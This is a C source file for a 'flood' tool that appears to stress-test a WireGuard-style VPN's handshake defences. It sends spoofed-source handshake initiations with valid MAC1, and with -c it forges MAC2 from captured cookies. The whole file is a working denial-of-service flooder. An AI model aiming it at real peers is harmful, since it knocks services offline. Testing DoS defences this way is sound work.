/* SPDX-License-Identifier: MIT */
/*
 * flood: sends handshake initiations with a valid MAC1 for a victim's
 * public key, from many local source addresses, as fast as it can (or at
 * a given rate), and counts what comes back.  The ephemeral and encrypted
 * fields are random: the victim finds out only after its DH, which is the
 * cost a flood imposes.  With -c it behaves like a smarter attacker: it
 * opens each cookie reply and stamps a valid MAC2 for that source from
 * then on, so only the victim's per-source rate limit stands in its way.
 *
 * One socket bound to the wildcard address sends every datagram with an
 * IP_PKTINFO source, so replies to every source land on it.
 *
 * Usage: flood -k PUBKEY_BASE64 -d IPV4:PORT -s FIRST_SRC -n NSRC -t SECS
 *              [-r PPS] [-p SRCPORT] [-c]
 * Prints one line: sent=N secs=S cookies=N responses=N other=N
 * first_cookie_ms=M (-1: none) mac2_sent=N
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <sodium.h>

#include "device/cookie.h"
#include "device/crypto.h"
#include "device/messages.h"

#define FLOOD_BATCH 64
#define FLOOD_MAX_SRC 65536
/* Sender indices remembered to open cookie replies (-c): a power of two. */
#define FLOOD_SENT_RING 65536

struct flood_src {
	struct in_addr addr;
	uint8_t cookie[COOKIE_LEN];
	bool have_cookie;
};

struct flood {
	int fd;
	struct sockaddr_in dst;
	struct flood_src *src;
	unsigned int nsrc;
	uint8_t mac1_key[NOISE_SYMMETRIC_KEY_LEN];
	uint8_t cookie_key[NOISE_SYMMETRIC_KEY_LEN];
	bool use_cookies;
	uint32_t next_index;
	/* mac1 of the message sent with sender index i (i % ring). */
	uint8_t (*sent_mac1)[COOKIE_LEN];
	uint64_t sent, mac2_sent, cookies, responses, other;
	double start_ns, first_cookie_ns;
};

static double flood_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

/* A fresh initiation from source s: random ephemeral and ciphertexts,
 * valid MAC1, and a valid MAC2 when we hold a cookie for s. */
static void flood_build(struct flood *f, struct message_handshake_initiation *m,
			unsigned int s)
{
	const size_t mac1_off = offsetof(struct message_handshake_initiation, macs);
	const size_t mac2_off = mac1_off + COOKIE_LEN;
	struct flood_src *src = &f->src[s];
	/* Consecutive indices cycle through the sources: index % nsrc = s. */
	uint32_t idx = f->next_index++;

	m->header.type = htole32(MESSAGE_HANDSHAKE_INITIATION);
	m->sender_index = idx;
	randombytes_buf(m->unencrypted_ephemeral, sizeof(m->unencrypted_ephemeral));
	blake2s(m->macs.mac1, COOKIE_LEN, (const uint8_t *)m, mac1_off, f->mac1_key,
		NOISE_SYMMETRIC_KEY_LEN);
	if (f->use_cookies)
		memcpy(f->sent_mac1[idx % FLOOD_SENT_RING], m->macs.mac1, COOKIE_LEN);
	if (src->have_cookie) {
		blake2s(m->macs.mac2, COOKIE_LEN, (const uint8_t *)m, mac2_off, src->cookie,
			COOKIE_LEN);
		f->mac2_sent++;
	} else {
		memset(m->macs.mac2, 0, COOKIE_LEN);
	}
}

static void flood_cookie(struct flood *f, const uint8_t *buf)
{
	const struct message_handshake_cookie *c = (const void *)buf;
	uint32_t idx = c->receiver_index;
	uint8_t cookie[COOKIE_LEN];
	struct flood_src *src;

	if (!f->cookies++)
		f->first_cookie_ns = flood_now() - f->start_ns;
	if (!f->use_cookies || f->next_index - idx >= FLOOD_SENT_RING)
		return;
	if (xaead_decrypt(cookie, c->encrypted_cookie, sizeof(c->encrypted_cookie),
			  f->sent_mac1[idx % FLOOD_SENT_RING], COOKIE_LEN, c->nonce, f->cookie_key))
		return;
	src = &f->src[idx % f->nsrc];
	memcpy(src->cookie, cookie, COOKIE_LEN);
	src->have_cookie = true;
}

/* Everything the victim sent back so far, without waiting. */
static void flood_drain(struct flood *f)
{
	static uint8_t bufs[FLOOD_BATCH][256];
	struct mmsghdr msgs[FLOOD_BATCH];
	struct iovec iov[FLOOD_BATCH];
	int i, n;

	for (;;) {
		memset(msgs, 0, sizeof(msgs));
		for (i = 0; i < FLOOD_BATCH; i++) {
			iov[i].iov_base = bufs[i];
			iov[i].iov_len = sizeof(bufs[i]);
			msgs[i].msg_hdr.msg_iov = &iov[i];
			msgs[i].msg_hdr.msg_iovlen = 1;
		}
		n = recvmmsg(f->fd, msgs, FLOOD_BATCH, MSG_DONTWAIT, NULL);
		if (n <= 0)
			return;
		for (i = 0; i < n; i++) {
			if (msgs[i].msg_len == MESSAGE_COOKIE_LEN &&
			    bufs[i][0] == MESSAGE_HANDSHAKE_COOKIE)
				flood_cookie(f, bufs[i]);
			else if (msgs[i].msg_len == MESSAGE_RESPONSE_LEN &&
				 bufs[i][0] == MESSAGE_HANDSHAKE_RESPONSE)
				f->responses++;
			else
				f->other++;
		}
	}
}

static int flood_send_batch(struct flood *f)
{
	static struct message_handshake_initiation m[FLOOD_BATCH];
	static union {
		char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
		struct cmsghdr align;
	} ctl[FLOOD_BATCH];
	struct mmsghdr msgs[FLOOD_BATCH];
	struct iovec iov[FLOOD_BATCH];
	struct in_pktinfo *pi;
	struct cmsghdr *cm;
	int i, n;

	memset(msgs, 0, sizeof(msgs));
	memset(ctl, 0, sizeof(ctl));
	for (i = 0; i < FLOOD_BATCH; i++) {
		unsigned int s = f->next_index % f->nsrc;

		flood_build(f, &m[i], s);
		iov[i].iov_base = &m[i];
		iov[i].iov_len = sizeof(m[i]);
		msgs[i].msg_hdr.msg_name = &f->dst;
		msgs[i].msg_hdr.msg_namelen = sizeof(f->dst);
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_control = ctl[i].buf;
		msgs[i].msg_hdr.msg_controllen = sizeof(ctl[i].buf);
		cm = CMSG_FIRSTHDR(&msgs[i].msg_hdr);
		cm->cmsg_level = IPPROTO_IP;
		cm->cmsg_type = IP_PKTINFO;
		cm->cmsg_len = CMSG_LEN(sizeof(*pi));
		pi = (struct in_pktinfo *)CMSG_DATA(cm);
		pi->ipi_spec_dst = f->src[s].addr;
	}
	n = sendmmsg(f->fd, msgs, FLOOD_BATCH, 0);
	if (n < 0)
		return errno == ENOBUFS || errno == EAGAIN ? 0 : -errno;
	f->sent += (uint64_t)n;
	return n;
}

static int flood_parse_dst(struct sockaddr_in *dst, const char *s)
{
	char host[64];
	const char *colon = strrchr(s, ':');

	if (!colon || (size_t)(colon - s) >= sizeof(host))
		return -EINVAL;
	memcpy(host, s, (size_t)(colon - s));
	host[colon - s] = 0;
	memset(dst, 0, sizeof(*dst));
	dst->sin_family = AF_INET;
	dst->sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, host, &dst->sin_addr) == 1 ? 0 : -EINVAL;
}

static int flood_socket(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int sz = 8 << 20;

	if (fd < 0)
		return -errno;
	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &sz, sizeof(sz));
	setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &sz, sizeof(sz));
	if (bind(fd, (struct sockaddr *)&a, sizeof(a))) {
		close(fd);
		return -errno;
	}
	return fd;
}

static void flood_usage(void)
{
	fprintf(stderr, "usage: flood -k PUBKEY_BASE64 -d IPV4:PORT -s FIRST_SRC -n NSRC -t SECS "
			"[-r PPS] [-p SRCPORT] [-c]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	struct flood f = { .fd = -1, .first_cookie_ns = -1e6 };
	uint8_t pub[NOISE_PUBLIC_KEY_LEN];
	const char *key = NULL, *dst = NULL, *first = NULL;
	double secs = 5, pps = 0, end, elapsed;
	unsigned int i, port = 40000;
	struct in_addr a0;
	size_t publen;
	int c, r;

	while ((c = getopt(argc, argv, "k:d:s:n:t:r:p:c")) != -1) {
		switch (c) {
		case 'k': key = optarg; break;
		case 'd': dst = optarg; break;
		case 's': first = optarg; break;
		case 'n': f.nsrc = (unsigned int)atoi(optarg); break;
		case 't': secs = atof(optarg); break;
		case 'r': pps = atof(optarg); break;
		case 'p': port = (unsigned int)atoi(optarg); break;
		case 'c': f.use_cookies = true; break;
		default: flood_usage();
		}
	}
	if (!key || !dst || !first || !f.nsrc || f.nsrc > FLOOD_MAX_SRC || port > 65535)
		flood_usage();
	if (crypto_init() || sodium_base642bin(pub, sizeof(pub), key, strlen(key), NULL, &publen,
					       NULL, sodium_base64_VARIANT_ORIGINAL) ||
	    publen != sizeof(pub) || flood_parse_dst(&f.dst, dst) ||
	    inet_pton(AF_INET, first, &a0) != 1)
		flood_usage();
	cookie_keys(pub, f.mac1_key, f.cookie_key);
	f.src = calloc(f.nsrc, sizeof(*f.src));
	f.sent_mac1 = calloc(FLOOD_SENT_RING, sizeof(*f.sent_mac1));
	if (!f.src || !f.sent_mac1)
		return 1;
	for (i = 0; i < f.nsrc; i++)
		f.src[i].addr.s_addr = htonl(ntohl(a0.s_addr) + i);
	randombytes_buf(&f.next_index, sizeof(f.next_index));
	f.next_index -= f.next_index % f.nsrc;	/* index % nsrc names the source */
	f.fd = flood_socket((uint16_t)port);
	if (f.fd < 0) {
		fprintf(stderr, "flood: socket: %s\n", strerror(-f.fd));
		return 1;
	}
	f.start_ns = flood_now();
	end = f.start_ns + secs * 1e9;
	for (;;) {
		double now = flood_now();

		if (now >= end)
			break;
		/* Paced: never ahead of pps * elapsed. */
		if (pps > 0 && (double)f.sent >= pps * (now - f.start_ns) / 1e9) {
			flood_drain(&f);
			usleep(200);
			continue;
		}
		r = flood_send_batch(&f);
		if (r < 0) {
			fprintf(stderr, "flood: sendmmsg: %s\n", strerror(-r));
			return 1;
		}
		flood_drain(&f);
	}
	usleep(200000);	/* the last replies */
	flood_drain(&f);
	elapsed = secs;
	printf("sent=%llu secs=%.2f cookies=%llu responses=%llu other=%llu first_cookie_ms=%.0f "
	       "mac2_sent=%llu\n",
	       (unsigned long long)f.sent, elapsed, (unsigned long long)f.cookies,
	       (unsigned long long)f.responses, (unsigned long long)f.other,
	       f.first_cookie_ns / 1e6, (unsigned long long)f.mac2_sent);
	close(f.fd);
	free(f.src);
	free(f.sent_mac1);
	return 0;
}
